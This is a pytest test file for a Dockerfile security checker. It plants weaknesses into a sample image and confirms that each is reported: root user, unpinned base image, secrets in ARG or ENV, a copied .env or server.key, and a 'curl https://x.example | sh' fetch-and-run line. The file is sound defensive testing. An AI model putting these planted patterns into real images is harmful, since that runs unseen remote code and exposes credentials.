"""operations/image: the image is pinned, without secrets and without root."""

from pathlib import Path

import pytest
from backwright_workbench.verify.checks.operations.dockerfile import leaves_out, stages
from backwright_workbench.verify.checks.operations.image_rules import context_faults, weaknesses
from backwright_workbench.verify.opening import Opened
from backwright_workbench.verify.outcome import Status
from verify_planting import EXAMPLE, checked, faults, passed, planted

IMAGE = "operations/image"
GOOD = (EXAMPLE / "Dockerfile").read_text()
IGNORED = (EXAMPLE / ".dockerignore").read_text()
FROM = "FROM python:3.11-slim-bookworm\nRUN useradd"

PLANTED = {
    "root": ("USER 10001", "# no user", "it runs as root"),
    "root-by-number": ("USER 10001", "USER 0:0", "it runs as root"),
    "root-again-at-the-end": ("EXPOSE 8000", "EXPOSE 8000\nUSER root", "it runs as root"),
    "latest": (FROM, "FROM python:latest\nRUN useradd", "has no version"),
    "no-tag": (FROM, "FROM python\nRUN useradd", "has no version"),
    "no-version-by-an-argument": (FROM, "FROM python:slim\nRUN useradd", "has no version"),
    "shell-form": ('CMD ["python", "-m", "work_orders", ', "CMD python -m work_orders # ", "starts a shell"),
    "shell-in-exec-form": (
        '["python", "-m", "work_orders", "serve", "--host", "0.0.0.0", "--port", "8000"]',
        '["sh", "-c", "python -m work_orders serve"]',
        "starts a shell",
    ),
    "own-loopback": ('"--host", "0.0.0.0"', '"--host", "127.0.0.1"', "own loopback"),
    "other-port": ("EXPOSE 8000", "EXPOSE 80", "serves port 8000 and exposes 80"),
    "secret-argument": ("WORKDIR /build", "ARG PIP_TOKEN\nWORKDIR /build", "ARG PIP_TOKEN puts a secret"),
    "secret-environment": (
        "ENVIRONMENT=production",
        "ENVIRONMENT=production \\\n    DATABASE_PASSWORD=hello",
        "ENV DATABASE_PASSWORD puts a secret",
    ),
    "environment-copied": (
        "COPY alembic.ini ./",
        "COPY alembic.ini .env ./",
        ".env is copied into the image",
    ),
    "key-copied": ("COPY alembic.ini ./", "COPY alembic.ini deploy/server.key ./", "server.key is copied"),
    "compilers": ("RUN useradd", "RUN apt-get update && apt-get install -y gcc && useradd", "compilers are"),
    "test-tools": (
        "RUN useradd",
        "RUN pip install -r requirements-dev.txt && useradd",
        "requirements for development",
    ),
    "script-from-the-network": ("RUN pip", "RUN curl -sSf https://x.example | sh && pip", "is run unseen"),
    "nothing-to-copy": (
        "COPY migrations ./migrations",
        "COPY migration ./migrations",
        "there is no migration to copy",
    ),
}


@pytest.mark.parametrize(("before", "after", "what"), PLANTED.values(), ids=PLANTED)
def test_a_weak_image_is_found(before: str, after: str, what: str) -> None:
    """Each fault alone, at the line that it stands in."""
    assert GOOD.count(before) == 1
    text = GOOD.replace(before, after)
    found = stages(text)
    said = [
        *weaknesses(found, "Dockerfile"),
        *context_faults(found, "Dockerfile", EXAMPLE, IGNORED.splitlines()),
    ]
    assert [each for each in said if what in each.what]
    assert all(1 < int(each.place.partition(":")[2]) <= text.count("\n") for each in said)


@pytest.mark.parametrize("left", [".env", ".git"])
def test_what_the_builder_must_not_see_is_found(left: str) -> None:
    """A `.dockerignore` that does not name it, one that takes it back, and none at all."""
    found = stages(GOOD)
    for ignored in (IGNORED.replace(f"{left}\n", ""), f"{IGNORED}\n!{left}\n", None):
        lines = None if ignored is None else ignored.splitlines()
        said = [each.what for each in context_faults(found, "Dockerfile", EXAMPLE, lines)]
        assert f"{left} is sent to whoever builds the image" in said


def test_patterns_leave_out_as_docker_does() -> None:
    """Folders with all that is in them, any depth with `**/`, and the last one that fits."""
    assert leaves_out(["docs"], "docs/api.yaml")
    assert leaves_out(["**/__pycache__"], "src/shop/__pycache__")
    assert leaves_out(["*"], ".env")
    assert not leaves_out(["*", "!src"], "src/app.py")
    assert not leaves_out([".env"], ".env.example")


def test_a_lock_file_that_is_not_used_is_found(tmp_path: Path) -> None:
    """The tests ran with those versions, the image does not."""
    (tmp_path / "uv.lock").write_text("")
    found = stages("FROM python:3.11 AS build\nRUN pip install shop\n")
    said = [each.what for each in context_faults(found, "Dockerfile", tmp_path, [".env", ".git"])]
    assert said == ["uv.lock is not used"]


def test_a_good_service_passes(good: Opened, tmp_path: Path) -> None:
    """Hadolint has nothing to say either."""
    assert passed(checked(good, IMAGE, tmp_path))


def test_an_image_that_runs_as_root_fails(good: Opened, tmp_path: Path) -> None:
    """A comment that tells hadolint to look away changes nothing."""
    edits = {"Dockerfile": ("USER 10001\n", "# hadolint ignore=DL3004\nRUN sudo true\nUSER root\n")}
    with planted(good, tmp_path, edits, same_tables=False) as opened:
        found = faults(checked(opened, IMAGE, tmp_path))
    assert "Dockerfile:23: it runs as root" in found
    assert "(DL3004)" in found


def test_without_a_dockerfile_there_is_nothing_to_say(good: Opened, tmp_path: Path) -> None:
    """And that leaves no verdict open."""
    with planted(good, tmp_path, {}, same_tables=False) as opened:
        (opened.subject.files() / "Dockerfile").unlink()
        evidence = checked(opened, IMAGE, tmp_path)
    assert (evidence.status, evidence.required) == (Status.NOT_RUN, False)
